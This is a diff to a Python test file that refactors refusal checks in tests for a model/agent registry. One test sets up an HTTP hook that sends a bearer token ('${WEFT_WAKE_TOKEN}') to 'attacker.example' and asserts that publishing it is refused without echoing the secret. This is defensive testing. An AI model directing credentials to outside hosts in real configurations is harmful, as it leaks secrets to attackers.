@@ -5,6 +5,7 @@ from collections.abc import Callable
 
 import pytest
 from google.protobuf.duration_pb2 import Duration
+from kit.failures import fails
 from kit.messages import changed
 from kit.refusals import refused
 
@@ -13,7 +14,6 @@ from weft.api.common.v1 import agent_behaviour_pb2
 from weft.api.registry.v1 import agent_pb2, model_pb2, wake_pb2
 from weft.documents.kinds.agent import check_agent
 from weft.documents.kinds.model import check_manifest
-from weft.kernel.errors import FieldError
 from weft.wake.recipes import DEFAULT_MAX_WAIT_SECONDS, max_wait_seconds
 
 SECRET = "hunter2"
@@ -107,9 +107,8 @@ def test_valid_plan_round_trips(wake: Wake) -> None:
     ],
 )
 def test_invalid_plan_is_refused_with_its_path_and_not_echoed(wake: Wake, field: str) -> None:
-    with pytest.raises(FieldError) as refusal:
+    with fails(field=field) as refusal:
         valid_model(model(wake), "m", published=False)
-    assert refusal.value.field == field
     assert SECRET not in str(refusal.value)
 
 
@@ -123,9 +122,8 @@ def test_runner_may_publish_wake_packets_and_requests_but_no_programs() -> None:
 def test_runner_may_not_direct_router_secrets_to_an_address() -> None:
     wake = http("http://attacker.example/", **{"X-Plain": "as it is", "X-Key": "Bearer ${WEFT_WAKE_TOKEN}"})
     assert valid_model(model(wake), "m", published=False).HasField("wake")
-    with pytest.raises(FieldError) as refusal:
+    with fails(field="m.wake.by_mesh.http.headers") as refusal:
         valid_model(model(wake), "m", published=True)
-    assert refusal.value.field == "m.wake.by_mesh.http.headers"
     assert "WEFT_WAKE_TOKEN" not in str(refusal.value)
 
 
